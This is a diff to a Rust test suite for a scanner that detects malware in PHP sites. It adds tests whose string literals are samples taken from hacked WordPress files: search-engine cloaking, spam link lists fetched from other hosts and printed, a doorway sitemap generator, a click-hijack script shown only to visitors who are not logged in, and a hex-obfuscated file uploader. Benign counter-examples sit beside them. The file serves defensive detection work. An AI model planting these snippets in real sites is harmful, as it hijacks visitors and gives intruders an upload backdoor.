@@ -351,7 +351,8 @@ fn search_engine_cloaking_is_found() {
                  curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); echo curl_exec($ch); exit; }";
     assert_eq!(found(cloak), [Why::SearchEngineCloaking]);
     let bare = "<?php $b = getenv('HTTP_USER_AGENT'); if (stristr($b, 'bing')) { echo file_get_contents('http://links.example/l.txt'); }";
-    assert_eq!(found(bare), [Why::SearchEngineCloaking]);
+    // (The link list it prints is also another site's text printed raw.)
+    assert!(found(bare).contains(&Why::SearchEngineCloaking), "{:?}", found(bare));
     // fresh40's `wp-includes/index.php`: the crawler's name and the address's parts kept in
     // base64 (`Z29vZ2xl` is `google`).
     let encoded = r#"<?php $u = base64_decode("Li4u") . mb_strtolower($_SERVER[HTTP_USER_AGENT]);
@@ -1447,4 +1448,51 @@ fn a_script_copying_itself_into_every_php_file_is_found() {
     // A template copier reads a file of its own folder, not itself.
     let copier = virus.replace("file_get_contents(__FILE__)", "file_get_contents(__DIR__ . '/tpl.php')");
     assert!(!found(&copier).contains(&Why::InjectsHiddenCode), "{:?}", found(&copier));
+}
+
+#[test]
+fn a_link_list_fetched_from_another_site_and_printed_is_found() {
+    // fresh100's `backlink.php` and a `wp-blog-header.php` cut to its loading lines.
+    let backlink = "<?php echo file_get_contents(\"https://spam.example/Backlink3.txt\"); ?>";
+    assert_eq!(found(backlink), [Why::PrintsRemoteContent]);
+    let header = "<?php\nrequire_once __DIR__ . '/wp-load.php';\nwp();\nrequire_once ABSPATH . WPINC . '/template-loader.php';\n\
+                  $a = file_get_contents( 'https://hacked.example.ac.id/wp-content/sitk/toto.txt' );\necho $a;\n";
+    assert_eq!(found(header), [Why::PrintsRemoteContent]);
+    // Another site's page (not a text file) shown by a script of its own: a status or a feed.
+    let status = "<?php echo file_get_contents('https://status.example.com/summary.html');";
+    assert!(found(status).is_empty(), "{:?}", found(status));
+    // A text file fetched and kept, not printed.
+    let kept = "<?php $v = file_get_contents('https://updates.example.com/version.txt'); if (version_compare($v, '2.0') > 0) { notify(); }";
+    assert!(found(kept).is_empty(), "{:?}", found(kept));
+}
+
+#[test]
+fn a_doorway_sitemap_and_a_script_for_strangers_are_found() {
+    let sitemap = "<?php\n$base_url = 'https://shop.example/news/?video=';\n$local_file = 'kw.txt';\n\
+                   $kw = file($local_file, FILE_IGNORE_NEW_LINES);\n$x = '<?xml version=\"1.0\"?>' . '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">';\n\
+                   foreach ($kw as $k) { $x .= '<url><loc>' . htmlspecialchars($base_url . $k) . '</loc></url>'; }\n\
+                   file_put_contents('sitemap-1.xml', $x . '</urlset>');\n";
+    assert!(found(sitemap).contains(&Why::SpamDoorway), "{:?}", found(sitemap));
+    // A site's sitemap of its own pages, from its database.
+    let own = "<?php $x = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">'; foreach ($db->query('SELECT slug FROM pages') as $p) \
+               { $x .= '<url><loc>https://shop.example/' . $p['slug'] . '</loc></url>'; } file_put_contents('sitemap.xml', $x . '</urlset>');";
+    assert!(found(own).is_empty(), "{:?}", found(own));
+    let strangers = "<?php $in = 0; foreach ($_COOKIE as $k => $v) { if (strstr(strval($k), 'wordpress_logged_in')) { $in = 1; break; } }\n\
+                     if ($in == 0) { echo \"<script>document.addEventListener('click', function() { window.open('https://bit.ly/3AAX'); });</script>\"; }";
+    assert!(found(strangers).contains(&Why::InjectedScript), "{:?}", found(strangers));
+    // A cache that skips logged-in visitors prints no script.
+    let cache = "<?php foreach ($_COOKIE as $k => $v) { if (strpos($k, 'wordpress_logged_in') === 0) { return; } } echo serve_cached();";
+    assert!(found(cache).is_empty(), "{:?}", found(cache));
+}
+
+#[test]
+fn a_function_name_in_hexadecimal_called_through_a_variable_is_found() {
+    // fresh99's uploader: names kept in hexadecimal, decoded into a list, called from it.
+    let hex = "<?php $main = ['55706C6F61646572', '7068705F756E616D65', '6D6F76655F75706C6F616465645F66696C65'];\n\
+               foreach ($main as $i => $h) { $bd[$i] = hex2bin($h); }\n\
+               if (isset($_FILES['f'])) { $bd[2]($_FILES['f']['tmp_name'], $_FILES['f']['name']); }";
+    assert!(found(hex).contains(&Why::HiddenFunctionName), "{:?}", found(hex));
+    // Hexadecimal data (a checksum, a colour table) in a file with callbacks names nothing.
+    let data = "<?php $sum = 'a3f5c0d4e1b2'; $cb = 'strtoupper'; echo $cb($sum);";
+    assert!(found(data).is_empty(), "{:?}", found(data));
 }
